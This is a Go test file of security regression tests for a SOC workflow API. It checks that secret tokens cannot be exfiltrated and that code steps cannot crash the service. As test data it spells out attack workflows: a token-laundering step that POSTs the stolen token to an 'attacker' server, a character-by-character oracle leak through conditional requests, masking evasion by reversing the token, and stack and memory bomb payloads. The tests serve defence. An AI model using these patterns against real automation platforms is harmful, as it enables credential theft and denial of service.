package api

import (
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"github.com/vigil-soc/vigil/domain/auth"
	"github.com/vigil-soc/vigil/store"
)

// r4Issuer is the review's "legitimate" API: it mints AT-SECRETDERIVED-<12 hex> at /token for the
// admin's secret, which is bound to its host.
func r4Issuer(t *testing.T, h *runHarness, admin string) (issuer *spyServer, token, secretName string) {
	t.Helper()
	token = "AT-SECRETDERIVED-" + strings.ReplaceAll(uuid.NewString(), "-", "")[:12]
	issuer = newSpyServer(t, func(w http.ResponseWriter, r *http.Request) bool {
		if !strings.HasSuffix(r.URL.Path, "/token") {
			return false
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"access_token":"`+token+`"}`)
		return true
	})
	secretName = "RV4_CLIENT_SECRET_" + strings.ToUpper(strings.ReplaceAll(uuid.NewString(), "-", "")[:8])
	r := h.ts.do(t, http.MethodPut, "/v1/workflow-secrets/"+secretName, admin, map[string]any{"value": "rv4-client-secret-value",
		"allowed_hosts": []string{strings.TrimPrefix(issuer.URL, "http://")}})
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	return issuer, token, secretName
}

func r4TokenStep(issuer *spyServer, secretName string) map[string]any {
	return map[string]any{"name": "token", "method": "POST", "url": issuer.URL + "/token",
		"form_body": map[string]any{"client_secret": "{{secrets." + secretName + "}}", "grant_type": "client_credentials"}}
}

// launderCode is the review's code step: it reads steps without writing the word.
const launderCode = "def main(ctx):\n    s = ctx[\"st\" + \"eps\"]\n    return s[\"token\"][\"response\"][\"access_token\"]\n"

// R4-1 (HIGH), first variant: a code step reading ctx["st" + "eps"] laundered the minted token, and
// a later step sent {{steps.launder.result}} to the attacker, unapproved. Now the code step carries
// the secret: refused at save for a non-admin key (403) and for a written-out foreign host (422);
// saved by an admin with a templated host, refused in a run and in a mock dry run; the attacker's
// server receives nothing.
func TestCodeStepCannotLaunderASecret(t *testing.T) {
	h := newRunHarness(t, "-runs")
	wfw, _, _, _ := h.keys(t)
	admin := mustKey(t, h.ts.Store, auth.ScopeAdmin)
	issuer, token, secret := r4Issuer(t, h, admin)
	attacker := newSpyServer(t, nil)
	body := func(mode, exfilURL string) map[string]any {
		return h.workflowBody("/rv4-launder/"+uuid.NewString(), func(b map[string]any) {
			b["approval_mode"], b["indicator_types"] = mode, []string{"ip", "url"}
			b["steps"] = []any{r4TokenStep(issuer, secret),
				map[string]any{"name": "launder", "kind": "code", "code": launderCode},
				map[string]any{"name": "exfil", "method": "POST", "url": exfilURL, "headers": map[string]any{"X-Stolen": "{{steps.launder.result}}"}}}
		})
	}
	// The request as filed (agent_only, WFW, the attacker's host written out): 422, the code step
	// carries the secret; with a templated host 403 (R4-7), and with always 403 for what it sends.
	requireError(t, h.ts.do(t, http.MethodPost, "/v1/workflows", wfw, body("agent_only", attacker.URL+"/launder")),
		http.StatusUnprocessableEntity, "SECRET_HOST_NOT_ALLOWED")
	requireError(t, h.ts.do(t, http.MethodPost, "/v1/workflows", wfw, body("agent_only", "{{indicator.value}}")), http.StatusForbidden, "FORBIDDEN")
	m := requireError(t, h.ts.do(t, http.MethodPost, "/v1/workflows", wfw, body("always", "{{indicator.value}}")), http.StatusForbidden, "FORBIDDEN")
	require.Contains(t, m["error"].(map[string]any)["message"], "step launder")
	// A written-out attacker host: 422 whoever saves it.
	m = requireError(t, h.ts.do(t, http.MethodPost, "/v1/workflows", admin, body("never", attacker.URL+"/launder")),
		http.StatusUnprocessableEntity, "SECRET_HOST_NOT_ALLOWED")
	require.Equal(t, secret, m["error"].(map[string]any)["details"].(map[string]any)["secret"])

	wf := h.createWorkflow(t, admin, body("never", "{{indicator.value}}"))
	ex := h.execute(t, wfw, wf, map[string]any{"indicator_type": "url", "indicator_value": attacker.URL + "/launder"})
	run := h.waitRun(t, ex.RunUUID, store.RunFailed)
	require.Contains(t, *run.Error, "SECRET_HOST_NOT_ALLOWED")
	require.Contains(t, *run.Error, "step launder's response")
	r := h.ts.do(t, http.MethodPost, "/v1/workflows/"+wf+"/test", wfw, map[string]any{"indicator_type": "url",
		"indicator_value": attacker.URL + "/launder", "mock_http_responses": map[string]any{"token": map[string]any{"body": map[string]any{"access_token": token}}}})
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	require.Contains(t, string(r.Body), "SECRET_HOST_NOT_ALLOWED")
	require.NotContains(t, string(r.Body), token)
	require.Zero(t, attacker.Count(), "the attacker's server never received the token")
	require.Equal(t, 1, issuer.Count(), "the token step ran once, in the run")
}

// R4-1, second variant: a when over for_each items leaked the token a character per request, with
// no code step and no "steps" in the for_each. The when reads the token step, so the step carries
// the secret as a condition: an ungated run (an admin's never workflow) and a mock dry run of it are
// refused before anything is sent; a non-admin may save it only as always (R4-7), so a person
// approves every run that could send it.
func TestWhenOracleCannotLeakASecretUnapproved(t *testing.T) {
	h := newRunHarness(t, "-runs")
	wfw, _, _, _ := h.keys(t)
	admin := mustKey(t, h.ts.Store, auth.ScopeAdmin)
	issuer, _, secret := r4Issuer(t, h, admin)
	attacker := newSpyServer(t, nil)
	items := []string{}
	for p := 17; p <= 28; p++ {
		for _, c := range "0123456789abcdef" {
			items = append(items, `{"p":`+itoa(p)+`,"c":"`+string(c)+`"}`)
		}
	}
	body := func(mode string) map[string]any {
		return h.workflowBody("/rv4-when/"+uuid.NewString(), func(b map[string]any) {
			b["approval_mode"] = mode
			b["steps"] = []any{r4TokenStep(issuer, secret),
				map[string]any{"name": "o1", "url": attacker.URL + "/o/{{item.p}}/{{item.c}}", "for_each": "[" + strings.Join(items[:96], ",") + "]",
					"when": "steps.token.response.access_token.substring(item.p, item.p + 1) == item.c"},
				map[string]any{"name": "o2", "url": attacker.URL + "/o/{{item.p}}/{{item.c}}", "for_each": "[" + strings.Join(items[96:], ",") + "]",
					"when": "steps.token.response.access_token.substring(item.p, item.p + 1) == item.c"}}
		})
	}
	requireError(t, h.ts.do(t, http.MethodPost, "/v1/workflows", wfw, body("agent_only")), http.StatusForbidden, "FORBIDDEN")
	gated := h.createWorkflow(t, wfw, body("always"))
	ex := h.execute(t, wfw, gated, map[string]any{"indicator_type": "ip", "indicator_value": "8.8.8.8"})
	require.Equal(t, "pending_approval", ex.Status, "a person decides whether it runs")

	wf := h.createWorkflow(t, admin, body("never"))
	ex = h.execute(t, wfw, wf, map[string]any{"indicator_type": "ip", "indicator_value": "8.8.8.8"})
	run := h.waitRun(t, ex.RunUUID, store.RunFailed)
	require.Contains(t, *run.Error, "only a run a person approved may send it")
	r := h.ts.do(t, http.MethodPost, "/v1/workflows/"+wf+"/test", wfw, map[string]any{"indicator_type": "ip", "indicator_value": "8.8.8.8",
		"mock_http_responses": map[string]any{"token": map[string]any{"body": map[string]any{"access_token": "AT-SECRETDERIVED-7c29082f978c"}}}})
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	require.Contains(t, string(r.Body), "only a run a person approved may send it")
	require.Zero(t, attacker.Count(), "no request spelled the token")
}

// R4-1, third variant: a code step returning the token reversed and split into characters showed it
// in clear to a workflows:read key, since masking matched exact strings. A code step after a step
// carrying a secret has its result masked whole, in the step record and as the run's result.
func TestTransformedSecretIsMaskedInTheRecord(t *testing.T) {
	h := newRunHarness(t, "-runs")
	wfw, _, _, _ := h.keys(t)
	admin := mustKey(t, h.ts.Store, auth.ScopeAdmin)
	reader := mustKey(t, h.ts.Store, auth.ScopeWorkflowsRead)
	issuer, token, secret := r4Issuer(t, h, admin)
	code := "def main(ctx):\n    t = ctx[\"st\" + \"eps\"][\"token\"][\"response\"][\"access_token\"]\n" +
		"    return {\"rev\": t[::-1], \"chars\": [c for c in t.elems()], \"ords\": [ord(c) for c in t.elems()]}\n"
	wf := h.createWorkflow(t, admin, h.workflowBody("/rv4-mask/"+uuid.NewString(), func(b map[string]any) {
		b["approval_mode"] = "never"
		b["steps"] = []any{r4TokenStep(issuer, secret), map[string]any{"name": "output", "kind": "code", "code": code}}
	}))
	ex := h.execute(t, wfw, wf, map[string]any{"indicator_type": "ip", "indicator_value": "8.8.8.8"})
	h.waitRun(t, ex.RunUUID, store.RunSucceeded)
	got := h.ts.do(t, http.MethodGet, "/v1/workflow-runs/"+ex.RunUUID.String(), reader, nil)
	require.Equal(t, http.StatusOK, got.Status, string(got.Body))
	rev := []rune(token)
	for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
		rev[i], rev[j] = rev[j], rev[i]
	}
	for _, leak := range []string{token, string(rev), `"A","T","-"`, "65,84,45", token[len(token)-12:]} {
		require.NotContains(t, string(got.Body), leak)
	}
	data := got.JSON(t)["data"].(map[string]any)
	require.Equal(t, "****", data["result"], "the run's result is the output step's, masked whole")
	require.Equal(t, "****", data["steps"].([]any)[1].(map[string]any)["result"])
}

// R4-7 (MEDIUM): a non-admin saved a secret-naming workflow as agent_only and ran it with a human
// key, unapproved. A non-admin's workflow naming a secret must be always: on create, and on a PATCH
// adding a secret to an agent_only workflow; raising it to always is allowed.
func TestAgentOnlyIsNoEscapeForSecrets(t *testing.T) {
	h := newRunHarness(t, "-runs")
	wfw, _, _, _ := h.keys(t)
	admin := mustKey(t, h.ts.Store, auth.ScopeAdmin)
	issuer, _, secret := r4Issuer(t, h, admin)
	withSecret := []any{map[string]any{"name": "act", "url": issuer.URL + "/act", "headers": map[string]any{"X-K": "{{secrets." + secret + "}}"}}}
	m := requireError(t, h.ts.do(t, http.MethodPost, "/v1/workflows", wfw, h.workflowBody("/rv4-ao/"+uuid.NewString(), func(b map[string]any) {
		b["approval_mode"], b["steps"] = "agent_only", withSecret
	})), http.StatusForbidden, "FORBIDDEN")
	require.Equal(t, []any{"admin"}, m["error"].(map[string]any)["details"].(map[string]any)["required_scopes"])
	require.Contains(t, m["error"].(map[string]any)["message"], "approval_mode always")

	wf := h.createWorkflow(t, wfw, h.workflowBody("/rv4-ao/"+uuid.NewString(), func(b map[string]any) { b["approval_mode"] = "agent_only" }))
	requireError(t, h.ts.do(t, http.MethodPatch, "/v1/workflows/"+wf, wfw, map[string]any{"steps": withSecret}), http.StatusForbidden, "FORBIDDEN")
	got := h.ts.do(t, http.MethodGet, "/v1/workflows/"+wf, wfw, nil).JSON(t)["data"].(map[string]any)
	require.EqualValues(t, 1, got["version"], "nothing was saved")
	r := h.ts.do(t, http.MethodPatch, "/v1/workflows/"+wf, wfw, map[string]any{"steps": withSecret, "approval_mode": "always"})
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	ex := h.execute(t, wfw, wf, map[string]any{"indicator_type": "ip", "indicator_value": "8.8.8.8"})
	require.Equal(t, "pending_approval", ex.Status)
	require.Zero(t, issuer.Count())
}

// R4-2 (HIGH) and R4-4 (MEDIUM): json.decode("[" * 3000000) overflowed the goroutine stack (fatal:
// the worker died, and the API on a dry run); slices with a step and string work were uncharged
// (1.05 GB, 27.8 s). Each is now a failed step within its bounds, in a mock dry run (the API
// process) and in a run (the worker), and both keep serving.
func TestCodeStepCannotTakeDownTheProcess(t *testing.T) {
	h := newRunHarness(t, "-runs")
	wfw, _, _, _ := h.keys(t)
	exec := mustKey(t, h.ts.Store, auth.ScopeWorkflowsExecute, auth.ScopeWorkflowsRead)
	cases := []struct{ name, code, msg string }{
		{"stack bomb", "def main(ctx):\n    return json.decode(\"[\" * 3000000)\n", "nesting deeper than 64 levels"},
		{"reversed strings kept", "def main(ctx):\n    s = \"a\" * 8000000\n    keep = []\n    for i in range(50):\n        keep.append(s[::-1])\n    return len(keep)\n", "memory bound exceeded"},
		{"reversed lists kept", "def main(ctx):\n    l = list(range(900000))\n    keep = []\n    for i in range(30):\n        keep.append(l[::-1])\n    return len(keep)\n", "memory bound exceeded"},
		{"7 MB compares", "def main(ctx):\n    s = \"a\" * 7000000\n    t = s[::-1]\n    n = 0\n    for i in range(20000):\n        if s == t:\n            n += 1\n        n += s.find(\"b\") + s.count(\"b\")\n    return n\n", "step bound exceeded"},
	}
	for _, tc := range cases {
		wf := h.createWorkflow(t, wfw, h.workflowBody("/rv4-bomb/"+uuid.NewString(), func(b map[string]any) {
			b["approval_mode"] = "never"
			b["steps"] = []any{map[string]any{"name": "bomb", "kind": "code", "code": tc.code}}
		}))
		start := time.Now()
		r := h.ts.do(t, http.MethodPost, "/v1/workflows/"+wf+"/test", exec, map[string]any{"indicator_type": "ip", "indicator_value": "8.8.8.8"})
		require.Equal(t, http.StatusOK, r.Status, string(r.Body))
		require.Contains(t, string(r.Body), tc.msg, tc.name)
		require.Less(t, time.Since(start), 5*time.Second, tc.name)
		ex := h.execute(t, wfw, wf, map[string]any{"indicator_type": "ip", "indicator_value": "8.8.8.8"})
		run := h.waitRun(t, ex.RunUUID, store.RunFailed)
		require.Contains(t, *run.Error, tc.msg, tc.name)
		require.Equal(t, 1, run.AttemptCount, "a code failure is permanent: no retry evaluates it again")
	}
	// Both processes still serve: a plain run succeeds and the API answers.
	path := "/rv4-after/" + uuid.NewString()
	wf := h.createWorkflow(t, wfw, h.workflowBody(path, func(b map[string]any) { b["approval_mode"] = "never" }))
	ex := h.execute(t, wfw, wf, map[string]any{"indicator_type": "ip", "indicator_value": "8.8.8.8"})
	h.waitRun(t, ex.RunUUID, store.RunSucceeded)
	require.Equal(t, 1, h.steps.Hits(path))
}
